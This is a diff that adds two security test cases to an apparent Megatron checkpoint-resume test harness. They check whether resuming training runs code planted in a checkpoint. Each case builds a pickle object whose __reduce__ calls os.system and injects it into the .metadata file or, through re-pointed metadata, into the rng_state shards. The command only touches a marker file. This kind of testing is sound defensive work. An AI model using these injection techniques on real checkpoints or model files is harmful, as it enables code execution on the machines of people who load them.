@@ -643,6 +643,57 @@ def rn38():
     show(*resume("RN38b", ck, "megatron_training.train_iters=3", flags=("--load-previous-on-corruption",)))
 
 
+@case("RN39", "megatron: .metadata (read by torch with plain pickle) with an os.system payload")
+def rn39():
+    import pickle
+    ck = _mg_damaged("RN39", lambda d: None)
+    marker = f"PWNED_metadata-{TAG}"
+    (WORLD / marker).unlink(missing_ok=True)
+
+    class Evil:
+        def __reduce__(self):
+            return (os.system, (f"touch {WORLD / marker}",))
+    f = ck / "iter_0000003/.metadata"
+    with open(f, "rb") as fh:
+        md = pickle.load(fh)
+    md.storage_meta = Evil()
+    with open(f, "wb") as fh:
+        pickle.dump(md, fh)
+    show(*resume("RN39", ck, *MG, "megatron_training.train_iters=4", "megatron_training.save_interval=1"))
+    payload_ran("PWNED_metadata")
+
+
+@case("RN40", "megatron: the rng_state object in a shard replaced by an os.system payload (metadata re-pointed)")
+def rn40():
+    import io
+    import pickle
+
+    import torch
+    ck = _mg_damaged("RN40", lambda d: None)
+    marker = f"PWNED_shard-{TAG}"
+    (WORLD / marker).unlink(missing_ok=True)
+
+    class Evil:
+        def __reduce__(self):
+            return (os.system, (f"touch {WORLD / marker}",))
+    d = ck / "iter_0000003"
+    with open(d / ".metadata", "rb") as fh:
+        md = pickle.load(fh)
+    blob = io.BytesIO()
+    torch.save([Evil()], blob)
+    for index, info in md.storage_data.items():
+        if index.fqn.startswith("rng_state/"):
+            shard = d / info.relative_path
+            offset = shard.stat().st_size
+            with open(shard, "ab") as fh:
+                fh.write(blob.getvalue())
+            info.offset, info.length = offset, len(blob.getvalue())
+    with open(d / ".metadata", "wb") as fh:
+        pickle.dump(md, fh)
+    show(*resume("RN40", ck, *MG, "megatron_training.train_iters=4", "megatron_training.save_interval=1"))
+    payload_ran("PWNED_shard")
+
+
 if __name__ == "__main__":
     wanted = sys.argv[1] if len(sys.argv) > 1 else "list"
     if wanted == "list":
